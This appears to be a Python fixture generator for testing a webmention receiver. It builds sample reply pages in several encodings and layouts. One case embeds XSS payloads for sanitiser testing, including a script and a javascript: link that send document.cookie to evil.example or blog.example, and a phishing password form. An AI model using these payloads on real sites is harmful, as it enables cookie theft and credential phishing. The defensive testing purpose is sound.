        <textarea readonly rows="6" cols="70"><a href="https://blog.example/post/1">Reply to this post</a>
<script src="/widget.js" data-target="https://blog.example/post/1"></script></textarea>
        <p>The script reads the target from the <code>data-target</code> attribute. The preview button below is wired up with the example value:</p>
        <button type="button" class="wm-preview" data-href="https://blog.example/post/1" data-target="https://blog.example/post/1">Preview</button>
        <form action="/webmention" method="post">
          <input type="hidden" name="target" value="https://blog.example/post/1">
          <input type="url" name="source" placeholder="Your reply URL">
          <button type="submit">Try it</button>
        </form>
      </div>
    </article>
    <script>
      // demo wiring for the preview button above
      var DEMO_TARGET = "https://blog.example/post/1";
      document.querySelector('.wm-preview').addEventListener('click', function () {
        var a = document.createElement('a');
        a.href = DEMO_TARGET;
        a.textContent = 'Reply to this post';
        document.body.appendChild(a);
        document.write('<a href="https://blog.example/post/1">written by script</a>');
      });
    </script>
    <script type="application/ld+json">
      {"@context": "https://schema.org", "@type": "BlogPosting", "headline": "Embed code for my reply widget", "citation": "https://blog.example/post/1"}
    </script>
""", "Yusuf Demir", "yusuf.example"), {
    "links": False,
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 25. Only "link" is an <img src> pointing at the target (links: true)
# ---------------------------------------------------------------------------
page("img-src-only.html", static_page(
    "Hotlinking, a confession \u2014 Gwen Harlow",
    """    <article class="h-entry">
      <h1 class="p-name">Hotlinking, a confession</h1>
      <p class="post-meta"><a class="p-author h-card" href="/">Gwen Harlow</a> &middot;
        <a class="u-url" href="/2024/03/hotlinking/"><time class="dt-published" datetime="2024-03-24T10:05:00+00:00">24 March 2024</time></a></p>
      <div class="e-content">
        <p>My post-to-image tool takes a URL and embeds a screenshot of it. Except I pointed it at the wrong thing, and for a week every embed on this page was an image tag whose source was the article itself:</p>
        <figure>
          <img src="https://blog.example/post/1" alt="Screenshot of the webmention guide" width="600" height="340" loading="lazy">
          <figcaption>This should be a screenshot. It is a broken image.</figcaption>
        </figure>
        <p>Browsers, quite reasonably, refuse to render an HTML page as a picture. Fixed now on newer posts, leaving this one as a monument.</p>
      </div>
    </article>
""", "Gwen Harlow", "gwen.example"), {
    "links": True,
    "property": "mention-of",
    "author_name": "Gwen Harlow",
    "author_url": "/",
    "name": "Hotlinking, a confession",
    "published": "2024-03-24T10:05:00+00:00",
    "content_contains": "Browsers, quite reasonably, refuse to render an HTML page as a picture.",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 26. <base href> on the target's site; relative "post/1" resolves to target.
#     A read-later service's public "shared highlights" page: it sets <base>
#     to the highlighted site so that the quoted excerpts' links work.
#     Because of the <base>, this page has no links to its own host.
# ---------------------------------------------------------------------------
page("base-href.html", """<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<base href="https://blog.example/">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Jun's highlights: Receiving webmentions without a database \u00b7 Quillmark</title>
<meta property="og:site_name" content="Quillmark">
<meta property="og:title" content="Jun's highlights: Receiving webmentions without a database">
<style>
body{font:17px/1.55 -apple-system,BlinkMacSystemFont,"Segoe UI",sans-serif;max-width:40rem;margin:2rem auto;padding:0 1rem;color:#222}
header.qm{display:flex;gap:.5rem;align-items:center;font-size:.85rem;color:#666;border-bottom:1px solid #eee;padding-bottom:.5rem}
mark{background:#fff3a3;padding:0 .1em}
.hl{margin:1.5rem 0;padding-left:1rem;border-left:4px solid #f5d33b}
.note{font-size:.9rem;color:#444;margin-top:.25rem}
.qm-footer{margin-top:3rem;font-size:.8rem;color:#888}
</style>
</head>
<body>
<header class="qm">
  <strong>Quillmark</strong> <span>&middot; shared highlights</span>
</header>
<article class="h-entry">
  <h1 class="p-name">Highlights from &ldquo;Receiving webmentions without a database&rdquo;</h1>
  <p>Shared by <a class="p-author h-card" href="https://quillmark.example/u/jun">Jun Park</a>
     on <time class="dt-published" datetime="2024-03-25T22:14:00+09:00">25 March 2024</time>.
     Read <a href="post/1">the original article</a> on blog.example.</p>
  <div class="e-content">
    <div class="hl">
      <blockquote><mark>The receiver must fetch the source and confirm that it links to the target before it does anything else.</mark></blockquote>
      <p class="note">Jun&rsquo;s note: this is the step our team&rsquo;s prototype skipped. Fixing on Monday.</p>
    </div>
    <div class="hl">
      <blockquote><mark>One file per mention, named after a hash of the source URL.</mark> See also <a href="post/12">the follow-up on styling</a>.</blockquote>
      <p class="note">Jun&rsquo;s note: simple enough to explain to the whole team in a standup.</p>
    </div>
  </div>
</article>
<footer class="qm-footer">
  <p>Highlights are shared publicly by the reader who made them. Quillmark is a read-later service; <a href="https://quillmark.example/about">about</a> &middot; <a href="https://quillmark.example/privacy">privacy</a>.</p>
</footer>
</body>
</html>
""", {
    "links": True,
    "property": "mention-of",
    "author_name": "Jun Park",
    "author_url": "https://quillmark.example/u/jun",
    "name": "Highlights from \u201cReceiving webmentions without a database\u201d",
    "published": "2024-03-25T22:14:00+09:00",
    "content_contains": "this is the step our team\u2019s prototype skipped",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 27. ISO-8859-1 page (bytes written as latin-1), German, accented names
# ---------------------------------------------------------------------------
page("latin1.html", """<!DOCTYPE html>
<html lang="de">
<head>
<meta charset="iso-8859-1">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>\u00dcber Webmentions, Pingbacks und das Caf\u00e9-Netz | Zo\u00eb M\u00fcllers Notizbuch</title>
<meta name="description" content="Warum ich nach zehn Jahren Pingbacks endlich auf Webmentions umgestiegen bin.">
<meta name="author" content="Zo\u00eb M\u00fcller">
<link rel="stylesheet" href="/stil/haupt.css">
<link rel="alternate" type="application/rss+xml" title="Zo\u00eb M\u00fcllers Notizbuch" href="/rss.xml">
<link rel="webmention" href="/webmention.php">
<style>
body { font-family: Georgia, "Times New Roman", serif; background: #fbfaf7; color: #222; margin: 0; }
#kopf, #inhalt, #fuss { max-width: 42em; margin: 0 auto; padding: 1em; }
#kopf { border-bottom: 3px double #999; }
#kopf a { color: #222; text-decoration: none; }
.meta { color: #777; font-size: 0.85em; }
blockquote { font-style: italic; border-left: 3px solid #ccc; margin-left: 0; padding-left: 1em; }
#fuss { font-size: 0.8em; color: #888; border-top: 1px solid #ddd; }
</style>
</head>
<body>
<div id="kopf">
  <h1><a href="/">Zo\u00eb M\u00fcllers Notizbuch</a></h1>
  <p>Gedanken \u00fcber das Netz, K\u00f6ln und gutes Brot. Seit 2009.</p>
  <ul class="menue">
    <li><a href="/">Startseite</a></li>
    <li><a href="/archiv/">Archiv</a></li>
    <li><a href="/ueber-mich/">\u00dcber mich</a></li>
    <li><a href="/impressum/">Impressum</a></li>
  </ul>
</div>
<div id="inhalt">
  <div class="h-entry">
    <h2 class="p-name">\u00dcber Webmentions, Pingbacks und das Caf\u00e9-Netz</h2>
    <p class="meta">Ver\u00f6ffentlicht am <time class="dt-published" datetime="2024-03-26T08:30:00+01:00">26. M\u00e4rz 2024</time>
      von <a class="p-author h-card" href="/ueber-mich/">Zo\u00eb M\u00fcller</a>
      &middot; <a class="u-url" href="/2024/03/webmentions-pingbacks/">Permalink</a></p>
    <div class="e-content">
      <p>Zehn Jahre lang hat dieses Blog Pingbacks empfangen. Die meisten davon waren Spam, ein paar waren sch\u00f6n, und einer kam von meiner Gro\u00dfmutter (die damals tats\u00e4chlich ein eigenes Blog hatte).</p>
      <p>Jetzt stelle ich auf Webmentions um. Die Anleitung, an der ich mich orientiert habe, ist <a href="https://blog.example/post/1">\u201eReceiving webmentions without a database\u201c</a> \u2013 auf Englisch, aber gut verst\u00e4ndlich.</p>
      <blockquote>Der Empf\u00e4nger muss die Quelle abrufen und pr\u00fcfen, ob sie wirklich auf das Ziel verlinkt.</blockquote>
      <p>Genau das hat bei Pingbacks in der Praxis kaum jemand gemacht. Mal sehen, wie es diesmal l\u00e4uft.</p>
      <p>Gr\u00fc\u00dfe aus K\u00f6ln, und danke an Fran\u00e7ois und J\u00f8rgen f\u00fcrs Testen!</p>
    </div>
  </div>
  <div class="kommentare">
    <h3>2 Reaktionen</h3>
    <ol>
      <li><strong>Ren\u00e9</strong>: Sch\u00f6ner Artikel! Funktioniert das auch mit meinem alten Serendipity-Blog?</li>
      <li><strong>Zo\u00eb M\u00fcller</strong>: Ren\u00e9, Serendipity kann Pingbacks senden, Webmentions leider nicht.</li>
    </ol>
  </div>
</div>
<div id="fuss">
  <p>&copy; 2009&ndash;2024 Zo\u00eb M\u00fcller &middot; <a href="/datenschutz/">Datenschutz</a> &middot; <a href="/impressum/">Impressum</a></p>
</div>
</body>
</html>
""".replace("\u201e", "&bdquo;").replace("\u201c", "&ldquo;").replace("\u2013", "&ndash;"), {
    "links": True,
    "property": "mention-of",
    "author_name": "Zo\u00eb M\u00fcller",
    "author_url": "/ueber-mich/",
    "name": "\u00dcber Webmentions, Pingbacks und das Caf\u00e9-Netz",
    "published": "2024-03-26T08:30:00+01:00",
    "content_contains": "Gr\u00fc\u00dfe aus K\u00f6ln, und danke an Fran\u00e7ois und J\u00f8rgen",
    "encoding": "iso-8859-1",
}, encoding="iso-8859-1")

# ---------------------------------------------------------------------------
# 28. Shift_JIS page (Japanese), meta charset shift_jis
# ---------------------------------------------------------------------------
page("shift-jis.html", """<!DOCTYPE html>
<html lang="ja">
<head>
<meta charset="shift_jis">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>\u30a6\u30a7\u30d6\u30e1\u30f3\u30b7\u30e7\u30f3\u3092\u53d7\u3051\u53d6\u308b\u4ed5\u7d44\u307f\u3092\u4f5c\u3063\u305f\u8a71 - \u5c71\u7530\u82b1\u5b50\u306e\u65e5\u8a18</title>
<meta name="description" content="\u30c7\u30fc\u30bf\u30d9\u30fc\u30b9\u306a\u3057\u3067\u30a6\u30a7\u30d6\u30e1\u30f3\u30b7\u30e7\u30f3\u3092\u53d7\u3051\u53d6\u3063\u3066\u307f\u307e\u3057\u305f\u3002">
<link rel="stylesheet" href="/css/diary.css">
<link rel="alternate" type="application/rss+xml" title="\u5c71\u7530\u82b1\u5b50\u306e\u65e5\u8a18" href="/index.rdf">
<style>
body { font-family: "\uff2d\uff33 \uff30\u30b4\u30b7\u30c3\u30af", "Hiragino Kaku Gothic ProN", sans-serif; line-height: 1.8; background: #fffdf5; }
#wrap { width: 720px; margin: 0 auto; }
.day h2 { border-bottom: 1px dotted #c96; font-size: 110%; }
.sidebar { font-size: 90%; color: #555; }
</style>
</head>
<body>
<div id="wrap">
<h1><a href="/">\u5c71\u7530\u82b1\u5b50\u306e\u65e5\u8a18</a></h1>
<p class="sidebar">\u30a6\u30a7\u30d6\u3068\u6599\u7406\u3068\u732b\u306e\u3053\u3068\u3002<a href="/about.html">\u30d7\u30ed\u30d5\u30a3\u30fc\u30eb</a> | <a href="/archive/">\u904e\u53bb\u30ed\u30b0</a></p>
<div class="day h-entry">
  <h2 class="p-name">\u30a6\u30a7\u30d6\u30e1\u30f3\u30b7\u30e7\u30f3\u3092\u53d7\u3051\u53d6\u308b\u4ed5\u7d44\u307f\u3092\u4f5c\u3063\u305f\u8a71</h2>
  <p class="meta"><time class="dt-published" datetime="2024-03-27T21:00:00+09:00">2024\u5e743\u670827\u65e5</time>
    <a class="p-author h-card" href="/">\u5c71\u7530 \u82b1\u5b50</a>
    <a class="u-url" href="/diary/20240327.html">#</a></p>
  <div class="e-content">
    <p>\u4ee5\u524d\u304b\u3089\u6c17\u306b\u306a\u3063\u3066\u3044\u305f\u30a6\u30a7\u30d6\u30e1\u30f3\u30b7\u30e7\u30f3\u3092\u3001\u3088\u3046\u3084\u304f\u81ea\u5206\u306e\u30b5\u30a4\u30c8\u3067\u3082\u53d7\u3051\u53d6\u308c\u308b\u3088\u3046\u306b\u3057\u307e\u3057\u305f\u3002</p>
    <p>\u53c2\u8003\u306b\u3057\u305f\u306e\u306f<a href="https://blog.example/post/1">\u3053\u306e\u8a18\u4e8b</a>\u3067\u3059\u3002\u30c7\u30fc\u30bf\u30d9\u30fc\u30b9\u3092\u4f7f\u308f\u305a\u306b\u3001\u30d5\u30a1\u30a4\u30eb\u3060\u3051\u3067\u7ba1\u7406\u3059\u308b\u65b9\u6cd5\u304c\u66f8\u304b\u308c\u3066\u3044\u307e\u3059\u3002</p>
    <p>\u9001\u4fe1\u5143\u306e\u30da\u30fc\u30b8\u3092\u53d6\u5f97\u3057\u3066\u3001\u672c\u5f53\u306b\u30ea\u30f3\u30af\u304c\u3042\u308b\u304b\u78ba\u8a8d\u3059\u308b\u3068\u3053\u308d\u304c\u5927\u4e8b\u3060\u305d\u3046\u3067\u3059\u3002\u732b\u304c\u30ad\u30fc\u30dc\u30fc\u30c9\u306e\u4e0a\u3067\u5bdd\u3066\u3044\u308b\u306e\u3067\u3001\u4eca\u65e5\u306f\u3053\u3053\u307e\u3067\u3002</p>
  </div>
</div>
<p class="sidebar">\u30b3\u30e1\u30f3\u30c8\uff08\uff10\uff09 | <a href="/diary/20240326.html">\u524d\u306e\u65e5</a> | <a href="/diary/20240328.html">\u6b21\u306e\u65e5</a></p>
<div class="day">
  <h2>猫の体重測定</h2>
  <p>今月も猫の体重を測りました。四キロ二百グラム。先月より少し増えています。おやつを減らすべきか、それとも運動させるべきか、家族会議の議題になりそうです。</p>
</div>
<div class="sidebar">
  <h3>最近の日記</h3>
  <ul>
    <li><a href="/diary/20240327.html">ウェブメンションを受け取る仕組みを作った話</a></li>
    <li><a href="/diary/20240320.html">春分の日のおはぎ</a></li>
    <li><a href="/diary/20240314.html">ホワイトデーのクッキー</a></li>
    <li><a href="/diary/20240309.html">図書館で借りた本</a></li>
    <li><a href="/diary/20240302.html">ひなまつりの準備</a></li>
  </ul>
  <h3>リンク</h3>
  <ul>
    <li><a href="https://alice.example/">Aliceさんのサイト</a></li>
    <li><a href="https://keiko.example/">田中さんのメモ</a></li>
  </ul>
</div>
<hr>
<p class="sidebar">Copyright &copy; 2003-2024 \u5c71\u7530\u82b1\u5b50. All rights reserved.</p>
</div>
</body>
</html>
""", {
    "links": True,
    "property": "mention-of",
    "author_name": "\u5c71\u7530 \u82b1\u5b50",
    "author_url": "/",
    "name": "\u30a6\u30a7\u30d6\u30e1\u30f3\u30b7\u30e7\u30f3\u3092\u53d7\u3051\u53d6\u308b\u4ed5\u7d44\u307f\u3092\u4f5c\u3063\u305f\u8a71",
    "published": "2024-03-27T21:00:00+09:00",
    "content_contains": "\u30c7\u30fc\u30bf\u30d9\u30fc\u30b9\u3092\u4f7f\u308f\u305a\u306b\u3001\u30d5\u30a1\u30a4\u30eb\u3060\u3051\u3067\u7ba1\u7406\u3059\u308b\u65b9\u6cd5",
    "encoding": "shift_jis",
}, encoding="shift_jis")

# ---------------------------------------------------------------------------
# 29. UTF-16 (little-endian, with BOM), e.g. saved by a Windows editor
# ---------------------------------------------------------------------------
page("utf16.html", """<!DOCTYPE html>
<html lang="is">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-16">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Vefsamskipti \u00e1n gagnagrunns \u2014 \u00d3lafur Ragnarsson</title>
<link rel="stylesheet" href="/style.css">
<style>
body { font-family: "Segoe UI", Tahoma, sans-serif; max-width: 44em; margin: 2em auto; padding: 0 1em; color: #1b1b1b; }
.meta { color: #666; font-size: 0.9em; }
nav a { margin-right: 1em; }
footer { margin-top: 4em; border-top: 1px solid #ccc; font-size: 0.8em; color: #777; }
</style>
</head>
<body>
<nav><a href="/">Heim</a><a href="/greinar/">Greinar</a><a href="/um/">Um mig</a></nav>
<article class="h-entry">
  <h1 class="p-name">Vefsamskipti \u00e1n gagnagrunns</h1>
  <p class="meta">
    <span class="p-author h-card"><a class="p-name u-url" href="/">\u00d3lafur Ragnarsson</a></span> \u2014
    <a class="u-url" href="/greinar/vefsamskipti/"><time class="dt-published" datetime="2024-03-28T13:37:00+00:00">28. mars 2024</time></a>
  </p>
  <div class="e-content">
    <p>\u00c9g hef veri\u00f0 a\u00f0 pr\u00f3fa webmention \u00e1 s\u00ed\u00f0unni minni. Lei\u00f0beiningarnar sem \u00e9g fylgdi eru h\u00e9r: <a href="https://blog.example/post/1">Receiving webmentions without a database</a>.</p>
    <p>Stutta \u00fatg\u00e1fan: \u00fea\u00f0 \u00feurfti engan gagnagrunn, bara m\u00f6ppu og sm\u00e1 \u00feolinm\u00e6\u00f0i. \U0001F9CA</p>
    <p>\u00deessi s\u00ed\u00f0a er vistu\u00f0 \u00ed UTF-16, \u00fev\u00ed ritillinn minn \u00e1 Windows gerir \u00fea\u00f0 sj\u00e1lfkrafa.</p>
  </div>
</article>
<footer><p>\u00a9 2024 \u00d3lafur Ragnarsson \u00b7 <a href="/feed.xml">RSS</a></p></footer>
</body>
</html>
""", {
    "links": True,
    "property": "mention-of",
    "author_name": "\u00d3lafur Ragnarsson",
    "author_url": "/",
    "name": "Vefsamskipti \u00e1n gagnagrunns",
    "published": "2024-03-28T13:37:00+00:00",
    "content_contains": "\u00fea\u00f0 \u00feurfti engan gagnagrunn, bara m\u00f6ppu og sm\u00e1 \u00feolinm\u00e6\u00f0i",
    "encoding": "utf-16",
}, encoding="utf-16")

# ---------------------------------------------------------------------------
# 30. Hostile markup inside a reply: scripts, on* handlers, javascript: URLs,
#     iframes, style attributes, SVG, meta refresh in body, form, object
# ---------------------------------------------------------------------------
page("hostile-markup.html", static_page(
    "Re: Receiving webmentions without a database \u2014 Mallory Quinn",
    """    <article class="h-entry" onmouseover="alert('entry')">
      <p class="reply-context">In reply to <a class="u-in-reply-to" href="https://blog.example/post/1" onclick="steal(document.cookie)">Receiving webmentions without a database</a></p>
      <div class="e-content" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:url(javascript:alert(1))">
        <p>I tried your verification endpoint with a few odd payloads and it handled all of them gracefully.</p>
        <script>alert('xss in content');document.location='https://evil.example/?c='+document.cookie</script>
        <img src="/nonexistent.png" onerror="alert('onerror in content')" alt="">
        <p style="color:red;font-size:120px" onclick="alert(2)">Please sanitise before display.</p>
        <a href="javascript:alert('js link')">click me</a>
        <a href="JaVaScRiPt:location='https://blog.example/post/1?stolen='+document.cookie">obfuscated js link</a>
        <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data url link</a>
        <iframe src="https://evil.example/frame.html" width="1" height="1" style="display:none"></iframe>
        <iframe srcdoc="&lt;script&gt;alert(parent.document.cookie)&lt;/script&gt;"></iframe>
        <svg width="10" height="10" onload="alert('svg')"><a href="javascript:alert(3)"><circle cx="5" cy="5" r="4"/></a></svg>
        <object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>
        <embed src="https://evil.example/x.swf">
        <form action="https://evil.example/phish" method="post"><input name="password" type="password" placeholder="Re-enter your password"><button formaction="javascript:alert(4)">Log in</button></form>
        <meta http-equiv="refresh" content="0;url=https://evil.example/">
        <style>body{display:none!important}</style>
        <link rel="stylesheet" href="https://evil.example/evil.css">
        <div style="background-image:url('https://evil.example/track.gif')">tracking pixel via style</div>
        <math><mtext><table><mglyph><style><img src=x onerror=alert(5)></style></mglyph></table></mtext></math>
        <p>Anyway, nice write-up &lt;3 &mdash; the <b>queue</b> idea is solid.</p>
      </div>
      <p class="post-meta">
        <a class="p-author h-card" href="/"><img class="avatar" src="/img/mallory.png" onerror="this.src='javascript:alert(6)'" alt="">Mallory Quinn</a>
        &middot; <a class="u-url" href="/replies/2024/03/29/"><time class="dt-published" datetime="2024-03-29T03:03:03+00:00">29 March 2024</time></a>
      </p>
    </article>
""", "Mallory Quinn", "mallory.example",
    extra_head='  <script>window.onload=function(){document.body.innerHTML+="<img src=x onerror=alert(7)>"}</script>'), {
    "links": True,
    "property": "in-reply-to",
    "author_name": "Mallory Quinn",
    "author_url": "/",
    "name": None,
    "published": "2024-03-29T03:03:03+00:00",
    "content_contains": "I tried your verification endpoint with a few odd payloads and it handled all of them gracefully.",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 31. Very deeply nested but valid markup (page-builder wrappers, nested
#     quotes in the content, deeply threaded comments).  Maximum element
#     depth is around 375: deep, but within what html5lib/lxml/mf2py handle
#     with Python's default recursion limit.
# ---------------------------------------------------------------------------
def deep_page():
    wrap_open, wrap_close = [], []
    for i in range(250):
        kind = ("div", "section")[i % 7 == 3]
        cls = ("elementor-element elementor-element-%05x elementor-widget-wrap" % (i * 7919 % 0xfffff)
               if kind == "div" else "elementor-section elementor-inner-section")
        wrap_open.append('<%s class="%s" data-id="%05x">' % (kind, cls, i * 104729 % 0xfffff))
        wrap_close.append("</%s>" % kind)
    quote_open = "".join('<blockquote class="quote-level-%d"><div class="quote-body">' % i
                         for i in range(60))
    quote_close = "</div></blockquote>" * 60
    comments = ""
    for i in range(45):
        comments += ('<ol class="children"><li class="comment depth-%d" id="comment-%d">'
                     '<p class="comment-text">%s</p>' % (
                         i + 2, 500 + i,
                         ("Still agreeing with the comment above." if i % 3 else
                          "Replying to keep the thread going, level %d." % (i + 2))))
    comments += "</li></ol>" * 45
    inner = (
        '<article class="h-entry elementor-post">'
        '<h1 class="p-name elementor-heading-title">A page builder ate my blog</h1>'
        '<div class="elementor-post-info"><span class="p-author h-card"><a class="p-name u-url" href="/">Ada Okonkwo</a></span> '
        '<time class="dt-published" datetime="2024-03-30T09:45:00+01:00">30 March 2024</time> '
        '<a class="u-url" href="/2024/03/page-builder/">#</a></div>'
        '<div class="e-content elementor-widget-container">'
        '<p>I let a page builder redesign my blog and the result nests every element inside a few hundred wrappers.</p>'
        + quote_open +
        '<p>At the very bottom of this email-style quote chain is the link that started it: '
        '<a href="https://blog.example/post/1">Receiving webmentions without a database</a>.</p>'
        + quote_close +
        '<p>If your parser survived this far, congratulations.</p>'
        '</div></article>'
        '<div class="comments-area"><h2>Comments</h2><ol class="comment-list"><li class="comment depth-1" id="comment-499">'
        '<p class="comment-text">Top-level comment.</p>' + comments + '</li></ol></div>'
    )
    return T("""<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>A page builder ate my blog &#8211; Ada Okonkwo</title>
<meta property="og:site_name" content="Ada Okonkwo">
<link rel="stylesheet" href="/wp-content/plugins/elementor/assets/css/frontend.min.css?ver=3.20.1">
<link rel="stylesheet" href="/wp-content/uploads/elementor/css/post-77.css?ver=1711787100">
</head>
<body class="post-template-default single single-post elementor-default elementor-kit-5 elementor-page elementor-page-77">
<div data-elementor-type="wp-post" data-elementor-id="77" class="elementor elementor-77">
{{open}}
{{inner}}
{{close}}
</div>
<script src="/wp-content/plugins/elementor/assets/js/frontend.min.js?ver=3.20.1"></script>
</body>
</html>
""", open="\n".join(wrap_open), inner=inner, close="".join(reversed(wrap_close)))


page("deeply-nested.html", deep_page(), {
    "links": True,
    "property": "mention-of",
    "author_name": "Ada Okonkwo",
    "author_url": "/",
    "name": "A page builder ate my blog",
    "published": "2024-03-30T09:45:00+01:00",
    "content_contains": "At the very bottom of this email-style quote chain is the link that started it",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 32. POSSE'd post with u-syndication links and rel=canonical (to itself)
# ---------------------------------------------------------------------------
page("syndication-canonical.html", static_page(
    "Webmention testing checklist \u2014 Theo Marsh",
    """    <article class="h-entry">
      <h1 class="p-name">Webmention testing checklist</h1>
      <p class="post-meta">
        <span class="p-author h-card"><img class="u-photo avatar" src="/theo.jpg" alt=""><a class="p-name u-url" href="/">Theo Marsh</a></span>
        &middot; <a class="u-url" href="/syndication-canonical.html"><time class="dt-published" datetime="2024-04-01T12:00:00+00:00">1 April 2024</time></a>
      </p>
      <div class="e-content">
        <p>Before I ship anything that receives webmentions, I run through this list:</p>
        <ol>
          <li>Does it reject a source that does not link to the target?</li>
          <li>Does it handle the source being deleted (410) later?</li>
          <li>Does it survive a source that is 40 megabytes of nonsense?</li>
          <li>Does it sanitise the displayed content?</li>
        </ol>
        <p>Most of the list comes from <a href="https://blog.example/post/1">Receiving webmentions without a database</a>; item three is my own, learned the hard way.</p>
      </div>
      <p class="post-meta">Also posted to:
        <a class="u-syndication" rel="syndication" href="https://social.example/@theo/112201938476102938">social.example</a>,
        <a class="u-syndication" rel="syndication" href="https://news.example/item?id=39884012">news.example</a>,
        <a class="u-syndication" rel="syndication" href="https://theo.micro.example/2024/04/01/webmention-testing-checklist.html">micro.example</a>
      </p>
    </article>
""", "Theo Marsh", "theo.example",
    extra_head='  <link rel="canonical" href="/syndication-canonical.html">\n'
               '  <link rel="shortlink" href="/s/4Kq">\n'
               '  <meta property="og:url" content="/syndication-canonical.html">'), {
    "links": True,
    "property": "mention-of",
    "author_name": "Theo Marsh",
    "author_url": "/",
    "name": "Webmention testing checklist",
    "published": "2024-04-01T12:00:00+00:00",
    "content_contains": "item three is my own, learned the hard way",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 33. Explicit u-mention-of
# ---------------------------------------------------------------------------
page("mention-of-explicit.html", static_page(
    "Mentioned: webmentions without a database \u2014 Sofia Greco",
    """    <article class="h-entry">
      <div class="e-content">
        <p>Three different people sent me <a class="u-mention-of" href="https://blog.example/post/1">the same article about receiving webmentions</a> this week, which I take as a sign that I should finally turn them on here.</p>
      </div>
      <p class="post-meta">
        <a class="p-author h-card" href="/"><img class="avatar" src="/img/sofia.jpg" alt="">Sofia Greco</a>
        &middot; <a class="u-url" href="/notes/2024/04/02/1/"><time class="dt-published" datetime="2024-04-02T08:08:00+02:00">2 April 2024</time></a>
      </p>
    </article>
""", "Sofia Greco", "sofia.example"), {
    "links": True,
    "property": "mention-of",
    "author_name": "Sofia Greco",
    "author_url": "/",
    "name": None,
    "published": "2024-04-02T08:08:00+02:00",
    "content_contains": "which I take as a sign that I should finally turn them on here",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 34. JSON source (a JSON Feed document) with the target as a string value
# ---------------------------------------------------------------------------
page("json-feed.json", json.dumps({
    "version": "https://jsonfeed.org/version/1.1",
    "title": "Priya's link log",
    "home_page_url": "/",
    "feed_url": "/feed.json",
    "description": "Things I read and found worth keeping.",
    "authors": [{"name": "Priya Raman", "url": "/", "avatar": "/img/priya.jpg"}],
    "language": "en",
    "items": [
        {
            "id": "/links/2024/04/03/webmentions/",
            "url": "/links/2024/04/03/webmentions/",
            "external_url": TARGET,
            "title": "Receiving webmentions without a database",
            "content_text": "A short, practical guide. The verification queue is the clever bit.",
            "date_published": "2024-04-03T09:00:00+01:00",
            "tags": ["webmention", "indieweb"],
        },
        {
            "id": "/links/2024/04/01/digital-gardens/",
            "url": "/links/2024/04/01/digital-gardens/",
            "external_url": "https://alice.example/notes/gardens",
            "title": "Digital gardens, five years on",
            "content_text": "A gentle look back at a trend that quietly stuck around.",
            "date_published": "2024-04-01T18:30:00+01:00",
            "tags": ["gardens"],
        },
        {
            "id": "/links/2024/03/29/dune/",
            "url": "/links/2024/03/29/dune/",
            "external_url": "https://fernbyfilms.example/2024/03/dune-part-two/",
            "title": "Dune: Part Two, reviewed",
            "content_text": "For the paragraph about sand alone. Spoilers in the second half.",
            "date_published": "2024-03-29T21:05:00+00:00",
            "tags": ["film"],
        },
        {
            "id": "/links/2024/03/27/code-blocks/",
            "url": "/links/2024/03/27/code-blocks/",
            "external_url": "https://blog.example/post/12",
            "title": "Styling code blocks for dark mode",
            "content_text": "Finally, someone who tested with actual colour-blind readers.",
            "date_published": "2024-03-27T07:45:00+00:00",
            "tags": ["css"],
        },
        {
            "id": "/links/2024/03/25/sourdough/",
            "url": "/links/2024/03/25/sourdough/",
            "external_url": "https://chloe.example/2024/03/sourdough-week-six/",
            "title": "Sourdough, week six",
            "content_text": "Rye in the morning, white at night, top of the fridge. Noted.",
            "date_published": "2024-03-25T12:00:00+01:00",
            "tags": ["bread"],
        },
    ],
}, indent=2, ensure_ascii=False) + "\n", {
    "links": True,
    "property": "mention-of",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 35. text/plain source (a mailing-list message as archived)
# ---------------------------------------------------------------------------
page("plain-text-source.txt", """From: Hamid Karimi <hamid@karimi.example>
To: small-web-discuss@lists.example
Subject: Re: [small-web] receiving webmentions on a static site?
Date: Thu, 4 Apr 2024 10:17:42 +0200
Message-ID: <20240404081742.GA19283@karimi.example>
In-Reply-To: <87r0fh2k1q.fsf@lists.example>
Content-Type: text/plain; charset=utf-8

On Wed, Apr 03, 2024 at 11:02:10PM +0100, Joe wrote:
> Has anyone got webmentions working on a purely static site, without
> signing up for a hosted service? I have a VPS but no database and I
> would like to keep it that way.

Yes. I followed this guide almost exactly:

    https://blog.example/post/1

The short version: a tiny endpoint that accepts the POST, writes the
source/target pair into a queue directory and answers 202. A cron job
picks up the queue, fetches each source, checks that it really links to
the target, and writes one JSON file per verified mention. Your site
generator reads those files at build time.

Two things the guide doesn't stress enough:

  1. Set a size limit and a timeout on the fetch. Someone will send you
     a source that is a 2 GB file, if only by accident.
  2. Re-verify on every update. If the source later returns 410 Gone,
     delete the mention.

I've been running it for about eight months with no problems. Happy to
share my cron script off-list if it helps.

For reference, the endpoint is roughly this (Python, error handling
removed so it fits in an email):

    @app.post("/webmention")
    def receive():
        source = request.form.get("source", "")
        target = request.form.get("target", "")
        if not (source.startswith("http") and target.startswith(SITE)):
            return "bad request", 400
        name = hashlib.sha256(source.encode()).hexdigest()
        (QUEUE / f"{name}.json").write_text(
            json.dumps({"source": source, "target": target}))
        return "", 202

and the worker does the fetching and checking. Do the fetch with a real
HTML parser when you check for the link; a regex will eventually match
something inside a comment or a script and you'll accept a mention that
shouldn't be there.

Hamid

--
Hamid Karimi . https://karimi.example/ . he/him
"The web is a conversation; act like it."

_______________________________________________
small-web mailing list
small-web@lists.example
https://lists.example/mailman/listinfo/small-web
""", {
    "links": True,
    "property": "mention-of",
    "encoding": "utf-8",
})

